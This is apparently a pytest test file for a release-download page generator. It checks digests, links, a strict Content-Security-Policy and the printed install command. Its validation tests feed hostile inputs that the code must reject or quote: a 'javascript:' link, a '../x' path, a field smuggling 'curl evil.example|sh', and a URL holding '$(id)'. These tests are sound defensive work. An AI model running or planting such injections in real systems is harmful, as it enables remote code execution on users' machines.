"""The page of releases in Chromium: no scripts needed, valid links, digests, light and dark."""

from __future__ import annotations

import base64
import hashlib
import html
import json
import os
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from aotforge.base.files import write_atomic
from aotforge.conformance.matrix import load_matrix
from aotforge.conformance.matrix_show import matrix_html
from aotforge.deliver.page import INDEX, human_size, make_page, read_page
from aotforge.errors import ReleaseError
from aotforge.formats.archive import sha256_file
from aotforge.publish.stores.directory import DirectoryStore
from aotforge.publish.upload import publish_release
from aotforge.release.assemble import assemble_release
from aotforge.release.finalize import finalize_release
from aotforge.release.wheels import make_wheels
from tests.integration.release import standin
from tests.integration.release.test_finalize import BUILDER, ORIGIN
from tests.support.browser import MISSING, Browser, browser
from tests.support.publishing import make_keys, make_release
from tests.support.web import running_web

BASE = "https://releases.example/aotriton/"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished release and the page beside it."""
    folder = tmp_path_factory.mktemp("site")
    build = assemble_release(
        standin.MANIFEST, [standin.packed()], standin.prefix(folder / "prefix"), output=folder / "build",
        licence=standin.LICENCE, epoch=ORIGIN.epoch, inputs="1",
    )  # fmt: skip
    wheels = make_wheels(
        build.folder, standin.MANIFEST, ORIGIN, {standin.PLAN.pack: standin.PLAN.archs}, folder
    )
    done = finalize_release(
        build.folder, extra=wheels, origin=ORIGIN, plans=[standin.PLAN], output=folder / "www",
        key=Ed25519PrivateKey.generate(),
        builder=BUILDER,
    )  # fmt: skip
    release = read_page(done.folder, base_url=BASE, yanked="It hangs on <some> GPUs & others.")
    write_atomic(folder / "www" / INDEX, make_page([release], matrix=matrix_html(load_matrix(standin.ROOT))))
    return folder / "www"


@pytest.fixture(scope="module")
def address(site: Path) -> Iterator[str]:
    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(site)))
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    if MISSING:
        pytest.skip(f"not installed: {', '.join(MISSING)}")
    with browser(tmp_path_factory.mktemp("browser")) as opened:
        yield opened


def test_every_file_is_listed_with_its_digest(site: Path) -> None:
    page = (site / "index.html").read_text()
    links = re.findall(r'<a href="([^"#:]+)">', page)
    release = site / standin.MANIFEST.name
    assert sorted(links) == sorted(f"{release.name}/{path.name}" for path in release.iterdir())
    for path in release.iterdir():
        assert sha256_file(path) in page
    assert html.escape("It hangs on <some> GPUs & others.") in page
    assert "<some>" not in page
    assert f"--from {BASE}" in page


def test_the_printed_command_installs_the_release(site: Path, tmp_path: Path) -> None:
    """As a user pastes it, who has the root from elsewhere; the page names the server and the folder to
    install to."""
    release = make_release(tmp_path / "release", standin.MANIFEST.name)
    store = DirectoryStore(tmp_path / "store")
    keys = make_keys(tmp_path / "keys")
    (tmp_path / "root.json").write_bytes(keys.roots[0])
    publish_release(release, store, keys, now=datetime.now(UTC))
    described = read_page(site / standin.MANIFEST.name, base_url=BASE)
    document = described.document
    first = document.packs[0].model_copy(update={"archs": ("gfx908",)})
    document = document.model_copy(update={"packs": (first,)})
    with running_web(tmp_path / "store") as web:
        shown = replace(described, base_url=f"{web.url}/", document=document)
        page = make_page([shown], matrix="").decode()
        _, _, prefix = map(html.unescape, re.findall(r"<pre>(.*?)</pre>", page, re.DOTALL))
        (tmp_path / "dev").symlink_to(standin.ROOT / "dev")
        assert "tuf/" not in page, "who controls this server would choose the root of trust"
        lines = prefix.replace("/opt/aotriton", str(tmp_path / "installed"))
        done = subprocess.run(
            ["bash", "-ec", lines], cwd=tmp_path, capture_output=True, text=True, check=False,
            env=os.environ | {"AOTFORGE_CACHE": str(tmp_path / "cache")},
        )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert f"{standin.MANIFEST.name} for gfx908 is in" in done.stdout
    assert (tmp_path / "installed" / "lib" / "libaotriton_v2.so").is_file()


def test_a_development_build_is_called_one_and_nothing_ran_on_hardware(site: Path) -> None:
    release = read_page(site / standin.MANIFEST.name, base_url=BASE)
    page = make_page([replace(release, development=("the library is manylinux_2_34",))], matrix="").decode()
    assert re.search("Development build.</strong> the library is manylinux_2_34", page)
    assert "Development build" not in make_page([replace(release, development=())], matrix="").decode()
    assert "No image has run on real hardware yet" in page


@pytest.mark.parametrize(
    ("size", "text"),
    [
        (0, "0 B"),
        (999, "999 B"),
        (1000, "1.0 kB"),
        (342_520, "343 kB"),
        (1_053_156, "1.1 MB"),
        (2 * 10**9, "2.0 GB"),
    ],
)
def test_sizes(size: int, text: str) -> None:
    assert human_size(size) == text


def test_readable_without_scripts(chromium: Browser, address: str) -> None:
    chromium.tool("Emulation.setScriptExecutionDisabled", value=True)
    try:
        chromium.open(address)
        visible = chromium.run("return document.body.innerText")
        assert "Into an installed PyTorch" in visible and "2.9" in visible
        assert "copy SHA-256" not in visible  # a button that would do nothing is not shown
    finally:
        chromium.tool("Emulation.setScriptExecutionDisabled", value=False)


def test_every_link_is_valid(chromium: Browser, address: str, site: Path) -> None:
    chromium.open(address)
    hrefs = chromium.run("return [...document.querySelectorAll('a')].map(a => a.getAttribute('href'))")
    assert hrefs
    for href in hrefs:
        if href.startswith("#"):
            assert chromium.run(f"return document.getElementById({href[1:]!r}) !== null"), href
        else:
            assert (site / href).is_file(), href
    assert chromium.run("return document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("release",), "javascript:alert(document.domain)//"),
        (("release",), "0.11.2b-r7"),
        (("release",), ["x"]),
        (("packs", 0, "archs"), ["gfx908; curl evil.example|sh #"]),
        (("packs", 0, "archs"), []),
        (("packs", 0, "name"), "../x"),
        (("packs",), []),
        (("packs",), [1]),
        (("toolchain", "triton_version"), None),
    ],
)
def test_fields_in_links_and_commands_are_checked(
    path: tuple[str | int, ...], value: object, site: Path, tmp_path: Path
) -> None:
    """The sums fit, as in every folder that one person made."""
    original = next(site.glob("*/release.json")).parent
    folder = shutil.copytree(original, tmp_path / original.name)
    document = json.loads((folder / "release.json").read_bytes())
    place = document
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    (folder / "release.json").write_text(json.dumps(document))
    sums = (folder / "SHA256SUMS").read_text()
    old = sha256_file(original / "release.json")
    (folder / "SHA256SUMS").write_text(sums.replace(old, sha256_file(folder / "release.json")))
    with pytest.raises(ReleaseError, match=r"release\.json (cannot be used|is of)"):
        read_page(folder, base_url=BASE)


def test_the_page_loads_nothing_and_runs_its_own_script_only(site: Path) -> None:
    text = (site / INDEX).read_text()
    script = text.partition("<script>")[2].partition("</script>")[0]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    policy = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)
    assert len(policy) == 1 and "default-src 'none'" in policy[0]
    assert f"script-src 'sha256-{digest}'" in policy[0] and len(script) > 100


def test_an_address_is_one_word_of_a_command(site: Path) -> None:
    folder = next(site.glob("*/release.json")).parent
    release = read_page(folder, base_url="https://e.org/$(id)/a b")
    text = make_page([release], matrix="").decode()
    assert "--from &#39;https://e.org/$(id)/a b/&#39;" in text
